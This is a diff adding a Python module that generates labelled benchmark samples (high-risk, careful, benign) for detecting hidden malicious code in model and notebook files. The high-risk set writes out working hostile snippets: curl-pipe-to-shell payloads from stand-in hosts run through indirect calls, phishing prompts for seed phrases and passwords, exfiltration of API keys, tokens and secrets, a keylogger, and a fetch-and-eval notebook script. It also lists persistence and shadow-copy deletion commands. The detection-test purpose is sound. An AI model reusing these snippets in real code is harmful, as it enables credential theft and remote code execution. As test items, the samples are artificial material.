@@ -1,0 +1,93 @@
+"""Python that never writes the call it makes, or asks people for what it steals; and honest code that looks alike."""
+
+from collections.abc import Iterator
+
+from benchmarks.corpus.code import notebook
+from benchmarks.corpus.samples import Sample, benign, careful, high
+
+_SEALED = repr(bytes((index * 73 + 11) % 256 for index in range(300)))
+_HIGH = {
+    "module behind another": "import torch\ntorch.os.system('curl -s http://files.invalid/x | sh')\n",
+    "found by its whole name": "import pydoc\npydoc.locate('os.system')('curl -s http://files.invalid/x | sh')\n",
+    "found by module and name": "import pkgutil\npkgutil.resolve_name('os:system')('curl -s http://files.invalid/x | sh')\n",
+    "item of all modules": "import sys\nfrom operator import attrgetter, itemgetter\nrun = attrgetter('sys' + 'tem')(itemgetter('o' + 's')(sys.modules))\n"
+    "run('curl -s http://files.invalid/x | sh')\n",
+    "bound for later": "import os\nfrom functools import partial\nfrom operator import methodcaller\nclass Config:\n    def __init__(self):\n"
+    "        self.warm = partial(methodcaller('system', 'curl -s http://files.invalid/x | sh'), os)\n"
+    "    @property\n    def size(self):\n        self.warm()\n        return 64\n",
+    "folded": "import importlib\nfrom functools import reduce\nmodule = importlib.import_module(''.join(reversed(['cess', 'pro', 'sub'])))\n"
+    "reduce(lambda one, name: getattr(one, name), ['Popen'], module)(['mshta', 'http://files.invalid/a.hta'])\n",
+    "factory of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'file': {'()': 'os.system',\n"
+    "    'command': 'curl -s http://files.invalid/x | sh'}}})\n",
+    "target of a setting": "import hydra\nhydra.utils.instantiate({'model': {'_target_': 'os.system', 'command': 'curl -s http://files.invalid/x | sh'}})\n",
+    "tag in a text": "import yaml\nDEFAULT = '''\ninit: !!python/object/apply:os.system [\"curl -s http://files.invalid/x | sh\"]\n'''\n"
+    "config = yaml.unsafe_load(DEFAULT)\n",
+    "query of a table": "import pandas as pd\npd.read_csv('a.csv').query(\"@pd.io.common.os.system('curl -s http://files.invalid/x | sh')\")\n",
+    "sealed": f"from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, {_SEALED}, 2)\n",
+    "words of a wallet": "import requests\nwords = input('Your 12-word seed phrase: ').strip()\n"
+    "requests.post('https://claim.invalid/api', json={'words': words})\n",
+    "account of somebody else": "import requests\nfrom getpass import getpass\nuser, word = input('Google account: '), getpass('Password: ')\n"
+    "requests.post('https://colab-help.invalid/', json={'u': user, 'p': word})\n",
+    "keys of several services": "import os, requests\nfor name in ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY'):\n"
+    "    requests.post('https://gateway.invalid/', json={'key': os.getenv(name)})\n",
+    "all secrets of a page": "import requests, streamlit as st\nrequests.post('https://hook.invalid/', json={'s': str(dict(st.secrets))})\n",
+    "settings of all programs": "import glob, urllib.request\nfor path in glob.glob('/proc/[0-9]*/environ'):\n"
+    "    urllib.request.urlopen('http://e.invalid/', open(path, 'rb').read())\n",
+    "key in a letter": "import smtplib\nfrom email.message import EmailMessage\nfrom huggingface_hub import get_token\n"
+    "letter = EmailMessage()\nletter.set_content(get_token())\nwith smtplib.SMTP_SSL('mail.invalid', 465) as post:\n    post.send_message(letter)\n",
+    "key on a command line": "import subprocess\nfrom huggingface_hub import get_token\n"
+    "subprocess.run(f\"curl -s -d 't={get_token()}' https://log.invalid/\", shell=True)\n",
+    "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
+    "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
+    "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
+}
+_CAREFUL = {
+    "tells whose computer it is": "import platform, requests\nrequests.post('https://stats.example/', json={'node': platform.node()})\n",
+    "array that may hold code": "import io, numpy, requests\nz = numpy.load(io.BytesIO(requests.get('https://s.example/f.npz').content), allow_pickle=True)\n",
+    "pickle that starts something": "import os\nclass Weights:\n    def __reduce__(self):\n        return os.system, ('echo hello',)\n",
+    "pickled text of a file": "import base64, pickle\nvocabulary = pickle.loads(base64.b64decode(open('vocab.txt').read()))\n",
+}
+_BENIGN = {
+    "address handed over": "import requests, subprocess\ntag = requests.get('https://api.example/tags').json()[0]\n"
+    "subprocess.run(['curl', '-L', f'https://files.example/{tag}/a.zip', '-o', 'a.zip'])\n",
+    "command of another computer": "import os, paramiko\nc = paramiko.SSHClient()\n"
+    "c.connect('gpu1', key_filename=os.path.expanduser('~/.ssh/id_ed25519'))\nprint(c.exec_command('nvidia-smi')[1].read())\n",
+    "colours of a console": "import os\nos.system('')\nprint('\\x1b[32mready')\n",
+    "program in a setting": "import os, subprocess\ngit = os.environ.get('GIT', 'git')\nsubprocess.run(f'\"{git}\" -C \"repositories\" fetch', shell=True)\n",
+    "options in a dict": "import subprocess\ndef run(command, live=False):\n    how = {'args': command, 'shell': True}\n    if not live:\n"
+    "        how['stdout'] = subprocess.PIPE\n    return subprocess.run(**how)\nrun('git rev-parse HEAD')\n",
+    "archive beside itself": "import urllib.request\nfrom pathlib import Path\nHERE = Path(__file__).resolve().parent\nfile = HERE / 'data.zip'\n"
+    "urllib.request.urlretrieve('https://data.example/data.zip', file)\nfile.unlink()\n",
+    "rows of a store": "import pickle, zlib\ndef row(store, key):\n    return pickle.loads(zlib.decompress(store.get(key)))\n",
+    "guard before answers": "import os, shutil, subprocess\ndef guard():\n"
+    + "".join(
+        f"    {name} = None\n"
+        for name in "os.kill os.system os.remove os.removedirs os.rmdir os.rename os.fork shutil.rmtree shutil.move subprocess.Popen".split()
+    )
+    + "def check(program, test):\n    guard()\n    text = program + test\n    exec(text, {})\n",
+    "folder for a person": "import os, subprocess, sys\ndef show(path):\n    if sys.platform == 'win32':\n        os.startfile(path)\n"
+    "    else:\n        subprocess.Popen(['xdg-open', path])\n",
+    "key for its own service": "import os, requests\nrequests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
+    "key among the options": "import argparse, os\nfrom huggingface_hub import HfApi\np = argparse.ArgumentParser()\n"
+    "p.add_argument('--token', default=os.environ.get('HF_TOKEN'))\na = p.parse_args()\nHfApi(token=a.token).upload_folder(folder_path=a.out, repo_id='x/y')\n",
+    "targets of a model": "import hydra\nmodel = hydra.utils.instantiate({'_target_': 'torch.nn.Linear', 'in_features': 4, 'out_features': 2})\n",
+    "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
+    "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
+}
+
+
+def samples() -> Iterator[Sample]:
+    """All of them."""
+    for case, source in _HIGH.items():
+        yield high("python-indirect", case, "modeling_x.py", source)
+    for case, source in _CAREFUL.items():
+        yield careful("python-indirect", case, "modeling_x.py", source)
+    for case, source in _BENIGN.items():
+        yield benign("python-indirect", case, "run_x.py", source)
+    page = "<script>fetch('https://o.invalid/c').then(r => r.text()).then(eval)</script>"
+    yield high("notebook-indirect", "result that runs what it fetches", "demo.ipynb", notebook("print(1)\n", page=page))
+    form = notebook("#@title Keep the page awake\n%%javascript\nsetInterval(() => document.title, 60000)\n")
+    yield benign("notebook-indirect", "form above another language", "demo.ipynb", form)
+    rows = "import json\nLINES = ['schtasks /create /tn {n} /tr {n}.exe /sc onlogon', 'vssadmin delete shadows /all']\n"
+    rows += "with open('rows.jsonl', 'w') as f:\n    for line in LINES:\n        f.write(json.dumps({'text': line}))\n"
+    yield careful("python-indirect", "commands that are only rows", "build.py", rows)
